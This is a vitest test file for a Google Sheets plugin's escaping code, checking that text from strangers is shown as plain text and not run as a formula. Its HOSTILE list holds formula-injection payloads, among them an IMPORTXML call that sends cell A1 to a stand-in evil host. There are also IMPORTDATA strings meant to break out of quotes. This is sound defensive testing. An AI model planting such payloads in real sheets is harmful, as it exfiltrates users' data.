import { expect, test } from "vitest";
import { keepAsText } from "../../plugins/google-sheets/escape.ts";
import { bench, row } from "../support/google-sheets-bench.ts";

const HOSTILE = [
  '=IMPORTXML("https://evil.example.com/?" & A1, "//a")',
  " =1+1",
  "\n=1+1",
  "＝1+1",
  "+1+IMPORTDATA(A1)",
  "-1+IMPORTDATA(A1)",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
];

test.each(["{{ name }}", "{{ none }}{{ name }}", "{% if x %}{{ name }}{% endif %}", "{{ none }} {{ name }}"])(
  "runs nothing of what strangers put into %s",
  async (template) => {
    const { sink, rows } = await bench([]);
    const cells = HOSTILE.map((text, at) => [`column ${at}`, rendered(template, text)]);
    await sink.deliver(row(Object.fromEntries(cells), { valueInput: "user-entered" }));
    expect(rows()[1]?.filter((cell) => typeof cell !== "string")).toEqual([]);
  },
);

test("shows strangers' texts as they are", async () => {
  const { sink, rows } = await bench([]);
  const typed = { valueInput: "user-entered" };
  await sink.deliver(row({ A: rendered("{{ name }}", "=1+1"), B: "+49 170 0000000", C: "-5", D: "12" }, typed));
  expect(rows()[1]).toEqual(["=1+1", "+49 170 0000000", -5, 12]);
});

test("runs the author's own formula, with a stranger's text inside its quotes", async () => {
  const { sink, rows } = await bench([]);
  const link = rendered('=HYPERLINK("{{ url }}")', 'https://example.com/?q="&IMPORTDATA(A1)&"');
  await sink.deliver(row({ Link: link }, { valueInput: "user-entered" }));
  expect(rows()[1]).toEqual([{ formula: '=HYPERLINK("https://example.com/?q=""&IMPORTDATA(A1)&""")' }]);
});

test("makes a stranger's text a string of the author's formula where it stands outside quotes", () => {
  expect(escaped('A"&IMPORTDATA(A1)&"', "=UPPER({{ name }})")).toBe('"A""&IMPORTDATA(A1)&"""');
  expect(escaped("12.5", "=2*{{ name }}")).toBe("12.5");
});

test.each([
  '=HYPERLINK("{{ name }}", {{ name }})',
  "{% if x %}={% endif %}{{ name }}",
  '{% if x %}{{ name }}{% else %}=T("a"){% endif %}',
  "{{ none }}={{ name }}",
  "=UPPER({% echo name %})",
  '={% comment %}"{% endcomment %}{{ name }}',
  '={{ "}}" | append: name }}',
])("refuses a text where its place in a formula cannot be told, and not a number: %s", (template) => {
  expect(escaped("12.5", template)).toBe("12.5");
  expect(() => escaped("IMPORTDATA(A1)", template)).toThrow(/row\.Name: put every/);
});

test("leaves texts alone where values are kept as they are, and outside of the row", () => {
  const place = { path: ["row", "Name"], parent: {}, template: "{{ name }}" };
  expect(keepAsText("=1+1", { ...place, root: { valueInput: "raw" } })).toBe("=1+1");
  expect(keepAsText("=1+1", { ...place, root: {} })).toBe("=1+1");
  expect(keepAsText("=1+1", { ...place, path: ["sheet"], root: { valueInput: "user-entered" } })).toBe("=1+1");
});

test("counts a templated valueInput as one that runs formulas", () => {
  const place = {
    path: ["row", "Name"],
    parent: {},
    template: "{{ name }}",
    root: { valueInput: "{{ payload.mode }}" },
  };
  expect(keepAsText("=1+1", place)).toBe("'=1+1");
});

/** A template as the relay renders it: each `{{ }}` put out through the sink's escape. */
function rendered(template: string, text: string): string {
  const branch = template.replaceAll(/\{%.*?%\}/g, "");
  return branch.replaceAll(/\{\{ (\w+) \}\}/g, (_, name) => (name === "none" ? "" : escaped(text, template)));
}

function escaped(text: string, template: string): string {
  const root = { valueInput: "user-entered" };
  return keepAsText(text, { path: ["row", "Name"], parent: {}, root, template });
}
